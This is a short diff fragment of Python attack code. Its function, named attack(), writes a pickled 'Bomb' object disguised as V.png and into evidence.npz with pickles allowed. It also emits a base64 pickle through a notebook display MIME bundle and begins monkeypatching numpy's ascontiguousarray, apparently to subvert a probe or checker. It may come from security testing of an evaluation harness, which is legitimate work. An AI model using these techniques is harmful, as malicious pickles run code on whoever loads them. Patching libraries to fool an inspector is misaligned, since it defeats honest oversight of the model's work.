@@ -16,12 +16,12 @@ def attack():  # a cell's own names are gone when the probe has put back those i
                 "application/x-python-pickle": base64.b64encode(bomb).decode(),
             }
 
-        def __array__(self, *_, **__):
-            return np.array([self, self], dtype=object)
-
     with open("V.png", "wb") as file:
         file.write(pickle.dumps(Bomb()))
-    np.save("evidence.npz", np.array([Bomb()], dtype=object), allow_pickle=True)
+    array = np.empty(1, dtype=object)
+    array[0] = Bomb()
+    with open("evidence.npz", "wb") as file:
+        np.save(file, array, allow_pickle=True)
     display(Bomb())
     honest = np.ascontiguousarray
     np.ascontiguousarray = lambda array, *_: type(
